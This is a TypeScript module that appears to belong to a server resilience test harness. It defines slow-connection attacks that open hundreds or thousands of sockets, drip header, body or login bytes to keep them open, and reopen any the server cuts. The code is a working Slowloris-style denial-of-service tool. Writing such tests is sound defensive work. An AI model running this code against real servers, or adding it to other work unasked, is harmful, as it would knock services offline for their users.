import { connect, type Socket } from "node:net";
import { aborted, EXECUTE, requestOf, type Attack, type Target } from "./attack.ts";

const DRIP_MS = 500;
const SLOW = 500;
const IDLE = 3_000;

/** Connections that send slowly, or nothing. A connection that the server cuts is opened again. */
export const SLOW_CONNECTIONS: readonly Attack[] = [
  {
    name: `${String(SLOW)} connections whose headers come byte by byte`,
    send: (target, signal) => slowly(target, SLOW, signal, () => "GET / HTTP/1.1\r\nhost: x\r\nlong: ", "x"),
  },
  {
    name: `${String(SLOW)} connections whose bodies come byte by byte`,
    send: (target, signal) =>
      slowly(target, SLOW, signal, () => withoutEnd(target, `POST ${EXECUTE} HTTP/1.1`), " "),
  },
  {
    name: `${String(SLOW)} connections whose sign-ins come byte by byte`,
    send: (target, signal) =>
      slowly(target, SLOW, signal, () => withoutEnd(target, "POST /api/login HTTP/1.1"), " "),
  },
  {
    name: `${String(IDLE)} connections that send nothing`,
    send: (target, signal) => slowly(target, IDLE, signal, () => "", ""),
  },
];

/** A request that promises more bytes than it sends. */
function withoutEnd(target: Target, line: string): string {
  return `${requestOf(target, "greta", line, " ".repeat(60_000)).trimEnd()}\r\n\r\n[`;
}

/** Begins requests, and continues with a few bytes at a time. Answers for each connection whether it is `open` or `cut` at the end. */
async function slowly(
  { address }: Target,
  count: number,
  signal: AbortSignal,
  begin: () => string,
  drip: string,
): Promise<readonly string[]> {
  const { port, hostname } = new URL(address);
  const opened = (): Socket => {
    const socket = connect(Number(port), hostname);
    socket.on("error", () => undefined);
    socket.write(begin());
    return socket.resume();
  };
  const sockets = Array.from({ length: count }, opened);
  const timer = setInterval(() => {
    for (const [at, socket] of sockets.entries())
      if (socket.destroyed) sockets[at] = opened();
      else if (drip !== "") socket.write(drip);
  }, DRIP_MS);
  await aborted(signal);
  clearInterval(timer);
  return sockets.map((socket) => {
    const code = socket.destroyed ? "cut" : "open";
    socket.destroy();
    return code;
  });
}
